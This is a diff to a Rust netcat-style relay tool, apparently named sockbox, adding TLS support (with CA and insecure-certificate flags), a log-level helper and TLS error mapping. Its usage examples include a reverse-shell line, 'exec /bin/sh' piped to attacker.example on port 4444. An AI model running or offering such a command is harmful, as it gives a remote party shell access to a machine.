@@ -6,7 +6,7 @@ use std::io::IsTerminal;
 use std::path::PathBuf;
 use std::time::Duration;
 
-use sockbox::relay::client::{Connected, relay_exec, relay_stdio};
+use sockbox::relay::client::{ClientLocal, Connected, relay_exec, relay_stdio, relay_tls};
 use sockbox::relay::net::{self, Family};
 use sockbox::relay::pump::Stopper;
 use sockbox::relay::{Dump, DumpFormat, ExecSpec, Flow, Outcome, RelayError, RelayOptions, Report};
@@ -20,6 +20,7 @@ const EXAMPLES: &str = "Examples:
   sockbox connect -u 192.0.2.1 53 -q 2 < query.bin           # UDP, quit 2 s after EOF
   sockbox connect -x traffic.dump localhost 25               # hex dump tagged > sent / < received
   sockbox connect -c 'exec /bin/sh' attacker.example 4444    # a program instead of stdin/stdout
+  sockbox connect --tls example.com 443                      # TLS, certificate checked
 
 Half-close: at end of standard input the socket's write side is shut down
 (TCP FIN) and output keeps flowing until the peer closes. --no-shutdown keeps
@@ -97,6 +98,15 @@ pub struct Args {
     /// Give up connecting after this long (per address tried).
     #[arg(short = 'w', long = "wait", value_name = "DURATION", value_parser = parse_secs)]
     pub wait: Option<Duration>,
+    /// Speak TLS over the TCP connection; the certificate must match HOST.
+    #[arg(long, conflicts_with = "udp")]
+    pub tls: bool,
+    /// Trust only the CA certificates in this PEM file (default: the system store).
+    #[arg(long, value_name = "FILE", requires = "tls")]
+    pub tls_ca: Option<PathBuf>,
+    /// Accept any server certificate (testing only: anyone can impersonate the server).
+    #[arg(long, requires = "tls")]
+    pub tls_insecure: bool,
     /// Relay flags.
     #[command(flatten)]
     pub relay: Box<RelayArgs>,
@@ -165,16 +175,21 @@ impl RelayArgs {
             .map_err(|e| usage(e.to_string()))
     }
 
+    /// The log level `-v` asks for: warn, info (`-v`), debug (`-vv`).
+    pub fn log_level(&self) -> tracing::Level {
+        match self.verbose {
+            0 => tracing::Level::WARN,
+            1 => tracing::Level::INFO,
+            _ => tracing::Level::DEBUG,
+        }
+    }
+
     /// Log to stderr at the level -v asks for, unless a logger is installed.
     pub fn init_logging(&self) {
         if tracing::dispatcher::has_been_set() {
             return;
         }
-        let level = match self.verbose {
-            0 => tracing::Level::WARN,
-            1 => tracing::Level::INFO,
-            _ => tracing::Level::DEBUG,
-        };
+        let level = self.log_level();
         let _ = tracing_subscriber::fmt()
             .with_max_level(level)
             .with_writer(std::io::stderr)
@@ -212,11 +227,14 @@ pub fn relay_error(e: RelayError) -> anyhow::Result<u8> {
         | RelayError::Connect { .. }
         | RelayError::ConnectTimeout { .. }
         | RelayError::Recv { .. }
-        | RelayError::Send { .. } => {
+        | RelayError::Send { .. }
+        | RelayError::Tls(sockbox::tls::TlsError::Handshake { .. })
+        | RelayError::TlsTimeout(_) => {
             eprintln!("sockbox: {e}");
             Ok(PARTIAL)
         }
-        RelayError::Resolve { .. }
+        RelayError::Tls(_)
+        | RelayError::Resolve { .. }
         | RelayError::NoAddress { .. }
         | RelayError::Acl(_)
         | RelayError::Dump { .. }
@@ -248,7 +266,28 @@ pub fn run(a: &Args) -> anyhow::Result<u8> {
     if let Ok(peer) = sock.peer() {
         tracing::info!("connected to {peer}");
     }
-    let result = if let Some(spec) = spec {
+    let result = if a.tls {
+        let Connected::Tcp(tcp) = sock else {
+            return Err(usage("--tls needs TCP"));
+        };
+        let tls = sockbox::tls::ClientTls {
+            ca: a.tls_ca.clone(),
+            insecure: a.tls_insecure,
+        };
+        let connector = tls.connector().map_err(|e| usage(e.to_string()))?;
+        let local = match spec {
+            Some(s) => ClientLocal::Exec(s),
+            None => ClientLocal::Stdio,
+        };
+        let host = a.host.clone();
+        runtime::block_on(async move {
+            let stop = sockbox::Shutdown::new();
+            runtime::shutdown_on_signals(&stop)?;
+            Ok::<_, anyhow::Error>(
+                relay_tls(tcp, &connector, &host, &local, &opts, dump, &stop).await,
+            )
+        })??
+    } else if let Some(spec) = spec {
         runtime::block_on(async move {
             let stop = sockbox::Shutdown::new();
             runtime::shutdown_on_signals(&stop)?;
